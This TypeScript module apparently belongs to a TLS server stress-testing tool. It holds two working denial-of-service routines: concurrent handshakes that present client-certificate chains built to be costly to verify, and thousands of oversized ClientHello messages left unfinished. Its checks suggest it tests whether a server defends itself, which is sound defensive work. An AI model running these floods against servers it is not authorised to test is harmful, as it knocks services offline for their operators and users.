import { connect } from "node:tls";
import {
  createFakeChain,
  curveIssuer,
  type FakeChain,
  rsaIssuer,
  times,
  uriConstraints,
  uriNames,
} from "@/lib/testing/fake-chain";
import type { Attack } from "./attacks";
import { attackerAddress, openWires, pause, type Target } from "./wire";

const CONCURRENCY = 20;
const HANDSHAKE_MS = 10_000;

/** Chains that take OpenSSL 0.1 to 0.5 s each to verify. */
const chains = (): FakeChain[] => [
  createFakeChain(times(70, () => rsaIssuer(3072, 3071))),
  createFakeChain(times(99, () => curveIssuer("sect571r1"))),
  createFakeChain(times(5, () => rsaIssuer(3072, 3071))),
  createFakeChain([curveIssuer("prime256v1", [uriConstraints(250)])], [uriNames(1_400)]),
];

/** Client certificates that are expensive to verify. */
export const expensiveChains: Attack = {
  name: "Expensive client certificates",
  async run({ tls, seconds }) {
    const made = chains();
    const until = performance.now() + seconds * 1000;
    let closed = 0;
    const attack = async (index: number) => {
      for (let round = index; performance.now() < until; round += 1) {
        await present(tls, made[round % made.length] as FakeChain, attackerAddress(round));
        closed += 1;
      }
    };
    await Promise.all(Array.from({ length: CONCURRENCY }, (_, index) => attack(index)));
    return `${closed} handshakes were closed`;
  },
};

/** @throws Error when the connection stays open */
function present({ host, port }: Target, { key, cert }: FakeChain, localAddress: string): Promise<void> {
  return new Promise((resolve, reject) => {
    const ciphers = "DEFAULT:@SECLEVEL=0"; // required for OpenSSL to present weak keys
    const options = { host, port, localAddress, key, cert, ciphers, rejectUnauthorized: false };
    const socket = connect(options);
    const timer = setTimeout(
      () => reject(new Error("a handshake with expensive certificates was not closed")),
      HANDSHAKE_MS,
    );
    socket.on("error", () => {}).resume();
    socket.once("close", () => {
      clearTimeout(timer);
      resolve();
    });
  });
}

/** Handshakes of the maximum size that never complete. */
export const unfinishedHandshakes: Attack = {
  name: "Unfinished TLS handshakes",
  async run({ tls, scale, seconds }, wires) {
    const wanted = Math.max(20, Math.round(2_000 * scale));
    wires.push(...(await openWires(tls, wanted)));
    const header = Buffer.from([22, 3, 1, 0x3f, 0x00]);
    for (const wire of wires)
      wire.write(Buffer.concat([header, Buffer.from([1, 0, 0x3e, 0xfc]), Buffer.alloc(15_000)]));
    await pause(seconds * 1000);
    return `${wires.filter(({ isOpen }) => isOpen).length} of ${wanted} were open`;
  },
};
